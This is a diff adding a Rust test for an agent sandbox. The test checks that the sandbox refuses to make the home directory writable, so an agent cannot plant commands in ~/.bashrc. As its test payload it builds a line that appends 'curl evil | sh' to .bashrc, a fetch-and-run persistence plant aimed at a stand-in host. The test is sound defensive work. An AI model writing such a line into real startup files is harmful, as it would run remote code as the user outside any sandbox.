@@ -95,3 +95,50 @@ fn descriptors_kovra_sandbox_inherits_do_not_reach_the_command() {
     );
     lab.assert_nothing_printed();
 }
+
+/// The project is bound writable. Started in the home directory (where many people start an
+/// agent), or in any directory above it, that made all of `~` writable: `~/.bashrc`,
+/// `~/.profile`, `~/.config/systemd/user`… run as the human later, outside. Refused, and so
+/// is `--writable` naming the home or above.
+#[test]
+fn a_sandbox_never_makes_the_home_directory_writable() {
+    if test_user("review::a_sandbox_never_makes_the_home_directory_writable") {
+        return;
+    }
+    let lab = Lab::new("rv-home");
+    let rc = lab.user_home.join(".bashrc");
+    write(&rc, "# the human's\n");
+    let plant = format!("echo 'curl evil | sh' >> {}", q(&rc));
+    let parent = lab.user_home.parent().unwrap().to_path_buf();
+    let project = lab.project.display().to_string();
+    let home = lab.user_home.display().to_string();
+    let cases: [(&std::path::Path, Vec<&str>); 3] = [
+        (&lab.user_home, vec![]),
+        (&parent, vec![]),
+        (&lab.project, vec!["--writable", &home]),
+    ];
+    for (dir, extra) in cases {
+        let mut args = vec!["sandbox", "--agent", AGENT];
+        args.extend(extra.iter().copied());
+        args.extend(["--", "sh", "-c", &plant]);
+        let mut c = lab.cmd(&args);
+        c.current_dir(dir).env("KOVRA_PROJECT", WEB);
+        let out = lab.h.run_with(c, None);
+        assert_ne!(
+            out.status.code(),
+            Some(0),
+            "kovra sandbox in {} {extra:?} ran: {}",
+            dir.display(),
+            describe(&out)
+        );
+        assert_eq!(
+            std::fs::read_to_string(&rc).unwrap(),
+            "# the human's\n",
+            "~/.bashrc was rewritten from a sandbox started in {} {extra:?}",
+            dir.display()
+        );
+    }
+    // A project below the home still works.
+    let out = lab.sandbox("true", &[]);
+    assert!(out.status.success(), "{project}: {}", describe(&out));
+}
